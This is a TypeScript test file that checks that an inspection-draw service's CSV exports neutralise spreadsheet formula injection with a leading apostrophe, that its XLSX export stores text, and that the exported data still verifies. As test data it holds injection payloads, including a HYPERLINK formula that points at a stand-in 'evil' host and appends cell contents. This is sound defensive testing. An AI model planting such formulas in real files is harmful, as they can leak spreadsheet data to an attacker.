/**
 * Issue 11, item 7: every CSV export neutralises spreadsheet formulas. A cell starting with
 * `=`, `+`, `-`, `@`, tab or CR (or an apostrophe, so the rule can be undone) gets a leading
 * apostrophe; `sortes verify --csv` removes it and the round still verifies from the CSV.
 * The export routes are found by their documented content type, so a new CSV export fails
 * here until it is covered.
 */
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { cmdVerify } from "../../src/cli/verify.js";
import { ed25519PublicKey, fromHex, toHex } from "../../src/draw-engine/index.js";
import { csvCell, csvValue } from "../../src/http/csv.js";
import { allRoutes } from "../../src/http/routes.js";
import { importsIdle } from "../../src/rosters/imports/import-jobs.js";
import { ENTITY_HEADERS } from "../../src/rosters/synthetic.js";
import { roundFixture } from "../draws/fixture.js";
import { createCommittedRound, revealAll, SIGNING_KEY_HEX } from "../draws/helpers.js";
import { testApp } from "../helpers/app.js";
import { describeEachDriver, newDepartment } from "../helpers/db.js";
import { csvText, syntheticRecords } from "../rosters/entities-fixtures.js";

const DANGEROUS = ["=1+1", "+41", "-2", "@SUM(A1)", "\tTAB", "\rCR", "'quoted"];
/** Formula-looking entity ids that are still valid ids (no control characters). */
const FORMULA_IDS = ['=HYPERLINK("http://x")', "+41", "-2", "@SUM(A1)", "'quoted"];

/** Parses CSV text (BOM dropped) into rows of raw cells, apostrophes kept. */
const rowsOf = (text: string) =>
  parse(text.replace(/^\ufeff/, ""), { relax_column_count: true }) as string[][];

describe("csvCell", () => {
  it("prefixes an apostrophe to a cell a spreadsheet would run, quotes per RFC 4180, and csvValue undoes it", () => {
    for (const s of DANGEROUS) expect(csvCell(s).replace(/^"/, "")).toMatch(/^'/);
    expect(csvCell("=a,b")).toBe(`"'=a,b"`);
    expect(csvCell('-"x"')).toBe(`"'-""x"""`);
    expect(csvCell("91350100MA2XYW001")).toBe("91350100MA2XYW001");
    expect(csvCell("a=b")).toBe("a=b");
    expect(csvCell(3)).toBe("3");
    for (const s of [...DANGEROUS, "plain", "a,b", 'say "hi"', "''", "line\nbreak", ""]) {
      const cell = (parse(`${csvCell(s)}\n`) as string[][])[0]?.[0] ?? "";
      expect(csvValue(cell), JSON.stringify(s)).toBe(s);
    }
  });
});

it("the CSV exports are the team board, the eligible set, the findings export and the import error files", () => {
  const csv = allRoutes()
    .filter((r) =>
      Object.values(r.responses).some((x) => x.contentTypes?.some((t) => t.startsWith("text/csv"))),
    )
    .map((r) => `${r.method.toUpperCase()} ${r.path}`);
  // Covered below (the findings export in test/exports/exports.test.ts, "CSV: BOM, the national
  // columns…"); a new CSV export needs a case here.
  expect(csv.sort()).toEqual([
    "GET /entities/imports/:id/errors.csv",
    "GET /exports/findings.csv",
    "GET /inspectors/imports/:id/errors.csv",
    "GET /public/rounds/:id/eligible.csv",
    "GET /rounds/:id/assignments.csv",
  ]);
});

describeEachDriver("CSV exports neutralise formula injection", (get) => {
  it("team board and eligible set: formula-looking names and ids come out as text, and the CSV still verifies", async () => {
    const fx = await roundFixture(get().db, {
      entities: 60,
      beforeFreeze: async (db, departmentId) => {
        // Every entity's name looks like a formula; a few ids do too.
        await db.execute(sql`update entities set name = '=HYPERLINK("http://evil/"&A1)' || credit_code
                              where department_id = ${departmentId}`);
        for (const id of FORMULA_IDS)
          await db.execute(sql`
            insert into entities (department_id, credit_code, code_kind, name, legal_representative, address,
                                  registration_authority, entity_type, industry, region_code, registration_status, risk_class)
            values (${departmentId}, ${id}, 'legacy', '@公式', '张三', '福州市鼓楼区', '福州市市场监督管理局',
                    '有限责任公司', 'F51', '350102', '存续', 'D')`);
      },
    });
    await get().db.execute(
      sql`update inspectors set name = '-' || name where department_id = ${fx.department.id}`,
    );
    const { call } = testApp(get(), { SIGNING_KEY_HEX });
    const admin = fx.tokens.admin;
    const { roundId, contributors } = await createCommittedRound(call, admin, fx.itemCode);
    await revealAll(call, contributors);
    const drawn = await call("POST", `/rounds/${roundId}/draw`, { token: admin });
    expect(drawn.status, drawn.text).toBe(200);

    const board = await call("GET", `/rounds/${roundId}/assignments.csv`, { token: admin });
    expect(board.status, board.text).toBe(200);
    const [header, ...lines] = rowsOf(board.text);
    expect(lines.length).toBeGreaterThan(0);
    const col = (name: string) => header!.indexOf(name);
    for (const line of lines) {
      expect(line[col("主体名称")]).toMatch(/^'(=HYPERLINK|@公式)/);
      expect(line[col("检查人员")]).toMatch(/^'-检查员/);
      for (const cell of line) expect(cell, "no cell starts a formula").not.toMatch(/^[=+\-@\t\r]/);
    }

    // The XLSX export needs no apostrophe: exceljs writes text cells, never formulas.
    const xlsx = await testApp(get()).app.request(`/rounds/${roundId}/assignments.xlsx`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(xlsx.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await xlsx.arrayBuffer());
    const sheet = wb.worksheets[0]!;
    expect(sheet.rowCount).toBe(lines.length + 1);
    sheet.eachRow((row, n) => {
      if (n === 1) return;
      const name = row.getCell(col("主体名称") + 1);
      expect(name.type).toBe(ExcelJS.ValueType.String);
      expect(String(name.value)).toMatch(/^(=HYPERLINK|@公式)/);
      expect(row.getCell(col("检查人员") + 1).type).toBe(ExcelJS.ValueType.String);
    });

    const eligible = await call("GET", `/public/rounds/${roundId}/eligible.csv`);
    expect(eligible.status).toBe(200);
    const cells = rowsOf(eligible.text).slice(1);
    const ids = cells.map((r) => r[1] ?? "");
    for (const id of FORMULA_IDS) expect(ids, id).toContain(`'${id}`);
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    // The verifier reads the neutralised CSV back to the committed ids: PASS.
    const dir = mkdtempSync(join(tmpdir(), "sortes-csv-"));
    const proof = await call("GET", `/public/rounds/${roundId}/proof`);
    writeFileSync(join(dir, "proof.json"), proof.text);
    writeFileSync(join(dir, "eligible.csv"), eligible.text);
    const out: string[] = [];
    const io = { out: (s: string) => out.push(s), err: (s: string) => out.push(s) };
    const pub = toHex(ed25519PublicKey(fromHex(SIGNING_KEY_HEX)));
    const code = cmdVerify(
      [join(dir, "proof.json"), "--eligible", join(dir, "eligible.csv"), "--public-key", pub],
      io,
    );
    expect(out.join("\n")).toMatch(/^PASS/);
    expect(code).toBe(0);
  });

  it("import error file: a refused cell that looks like a formula comes out as text, and reads back to the reason", async () => {
    const { call } = testApp(get(), { DATA_DIR: mkdtempSync(join(tmpdir(), "sortes-csv-errs-")) });
    const dept = await newDepartment(get().db);
    const rows = syntheticRecords(20, "csv-formula").map((r) => r.map((c) => c.replaceAll("\n", " ")));
    const bad = ["=1+1", "@SUM(A1)", "+41", "-2"];
    bad.forEach((v, i) => {
      rows[i * 3]![7] = v; // region code column: refused, and the reason quotes the value
    });
    const posted = await call("POST", "/entities/imports", {
      token: dept.tokens.admin,
      body: csvText(ENTITY_HEADERS, rows),
      headers: { "content-type": "text/csv" },
    });
    expect(posted.status, posted.text).toBe(202);
    await importsIdle(get());
    const base = `/entities/imports/${posted.data.id}/errors`;
    const page = await call("GET", `${base}?page=1&pageSize=50`, { token: dept.tokens.admin });
    expect(page.data.total).toBe(bad.length);
    const file = await call("GET", `${base}.csv`, { token: dept.tokens.admin });
    expect(file.status, file.text).toBe(200);
    const [, ...cells] = rowsOf(file.text);
    expect(cells).toHaveLength(bad.length);
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Read back with the verifier's rule, every cell is the stored line, column and reason.
    const stored = page.data.items.map((e: { line: number; column: string; reason: string }) => [
      String(e.line),
      e.column,
      e.reason,
    ]);
    expect(cells.map((r) => r.map(csvValue))).toEqual(stored);
  });
});
